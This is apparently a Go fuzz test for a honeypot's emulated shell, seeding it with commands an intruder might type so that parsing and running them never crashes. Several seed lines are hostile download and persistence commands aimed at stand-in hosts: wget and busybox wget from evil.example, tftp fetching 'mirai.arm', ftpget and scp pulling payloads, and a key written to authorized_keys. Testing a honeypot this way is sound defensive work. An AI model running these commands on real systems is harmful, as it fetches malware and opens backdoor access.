package shell_test

import (
	"strings"
	"testing"
	"time"

	"honeyfarm/internal/loadgen"
	"honeyfarm/internal/shell"
	"honeyfarm/internal/vfs"
)

// fuzzImage is the pristine system image every fuzzed session clones.
var fuzzImage = vfs.New(func() time.Time { return time.Date(2022, 1, 1, 0, 0, 0, 0, time.UTC) })

// FuzzShellRun: whatever an intruder types, the shell neither parses
// nor runs it into a panic. Each input is a session: its lines go
// through Parse, SplitSegments and Run, in order, on one shell over a
// fresh clone of the image. The seeds are the lines loadgen's CMD and
// CMD+URI sessions type, the parser tests' cases, and a dd with a
// negative count, which once panicked.
func FuzzShellRun(f *testing.F) {
	plan, err := loadgen.BuildPlan(loadgen.PlanConfig{Seed: 1, Rate: 200, Duration: time.Second, Targets: []loadgen.Target{{}}})
	if err != nil {
		f.Fatal(err)
	}
	seen := map[string]bool{}
	for _, a := range plan.Arrivals {
		if script := strings.Join(a.Script.Commands, "\n"); script != "" && !seen[script] {
			seen[script] = true
			f.Add(script)
		}
	}
	for _, line := range []string{
		"uname -a",
		"cd /tmp; wget http://evil.example/x.sh && chmod 777 x.sh | cat || echo fail",
		`echo 'single; quoted | text' "double && quoted"`,
		`echo hello\ world`,
		`echo 'unterminated`,
		"echo key > .ssh/authorized_keys\necho key >> file",
		"sleep 10 & echo done",
		";; ; echo x ;;",
		`cat /proc/cpuinfo; echo "a;b" | wc -l && uname`,
		"tftp -g -r mirai.arm 198.51.100.7; ftpget -u anonymous -p pass 203.0.113.9 local.bin remote.bin",
		"scp user@203.0.113.9:/tmp/payload .; busybox wget http://evil.example/b",
		"dd if=/dev/zero of=x count=-1",
	} {
		f.Add(line)
	}
	f.Fuzz(func(t *testing.T, script string) {
		sh := shell.New(fuzzImage.Clone(), nil, nil)
		for _, line := range strings.Split(script, "\n") {
			shell.Parse(line)
			shell.SplitSegments(line)
			sh.Run(line)
		}
	})
}
